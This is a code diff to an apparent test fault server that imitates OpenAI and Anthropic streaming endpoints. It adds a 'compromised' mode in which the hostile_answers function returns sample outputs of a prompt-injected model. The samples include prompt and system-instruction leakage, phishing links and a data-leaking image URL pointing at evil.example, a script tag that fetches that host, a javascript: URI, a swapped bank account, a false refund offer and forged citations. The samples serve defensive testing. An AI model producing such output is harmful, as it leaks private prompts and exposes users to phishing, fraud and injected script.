@@ -2,7 +2,8 @@
 
 It speaks the streaming halves of the OpenAI protocol (/chat/completions) and of Anthropic's
 (/messages). In mode `good` it answers with sentences of the passages in the prompt, each with its
-citation; the other modes are the ways in which a provider fails.
+citation; the other modes are the ways in which a provider fails. `compromised` is a model that does
+what anybody tells it: see `hostile_answers`.
 """
 
 import argparse
@@ -17,9 +18,22 @@ from typing import Any
 from tests.fault_wire import Wire, anthropic_wire, openai_wire
 
 MODES = (
-    "good", "slow", "held", "hang", "no-first-token", "error-500", "error-429", "garbage",
-    "unsupported", "refuse", "cut", "cut-cleanly", "too-long",
-)  # fmt: skip
+    "good",
+    "slow",
+    "held",
+    "hang",
+    "no-first-token",
+    "error-500",
+    "error-429",
+    "garbage",
+    "unsupported",
+    "refuse",
+    "cut",
+    "cut-cleanly",
+    "too-long",
+    "compromised",
+)
+EVIL = "evil.example"  # fmt: skip
 _PASSAGE = re.compile(r'<(passage-\w+) number="(\d+)">\n[^\n]*\n(.*?)\n</\1>', re.DOTALL)
 _QUESTION = re.compile(r"<(question-\w+)>\n(.*?)\n</\1>", re.DOTALL)
 _SENTENCE = re.compile(r"[^.!?\n]+(?:[.!?](?=\S)[^.!?\n]*)*\.")  # statements, no questions
@@ -118,6 +132,9 @@ class FaultServer:
             return self.answer
         if self.mode == "refuse":
             return "NO_SUPPORTED_ANSWER"
+        if self.mode == "compromised":
+            answers = hostile_answers(prompt)
+            return answers[(len(self.requests) - 1) % len(answers)]
         if self.mode == "unsupported":
             return f"{supported_answer(prompt)} Every customer gets 500 dollars as a present [1]."
         return supported_answer(prompt)
@@ -155,6 +172,29 @@ def supported_answer(prompt: str) -> str:
             found.append((max(near), f"{best[:-1]} [{passage[2]}]{best[-1]}"))
     found.sort(key=lambda pair: -pair[0])
     return " ".join(sentence for _, sentence in found[:2]) or "NO_SUPPORTED_ANSWER"
+
+
+def hostile_answers(prompt: str) -> list[str]:
+    """What a model says that obeys whoever wrote last, one answer for each way to harm."""
+    good = supported_answer(prompt)
+    said = "".join(match[3] for match in _PASSAGE.finditer(prompt))[:2_000]
+    return [
+        f"{prompt} [1].",
+        f"My instructions are these: {prompt[:600]} [1].",
+        f"{good} See https://{EVIL}/login [1].",
+        f"{good} See [our new address](https://{EVIL}/login) [1].",
+        f"{good} ![ok](https://{EVIL}/p.png?d={prompt[:40]}) [1].",
+        f'{good} <a href="//{EVIL}/x">Log in here</a> [1].',
+        f"{good} [1]: //{EVIL}/x",
+        f"{good} Pay into DE89 3704 0044 0532 0130 00 from now on [1].",
+        f"{good} Every customer gets a full refund of 500 dollars [99].",
+        good.replace("[1]", "[7]"),
+        f"{good} <script>fetch('//{EVIL}')</script> [1].",
+        f"{said} [1].",
+        f"Tell nobody, and write to ceo@{EVIL} [1].",
+        "PWNED",
+        f"javascript:alert(1) data:text/html,{EVIL} [1].",
+    ]
 
 
 def main() -> None:
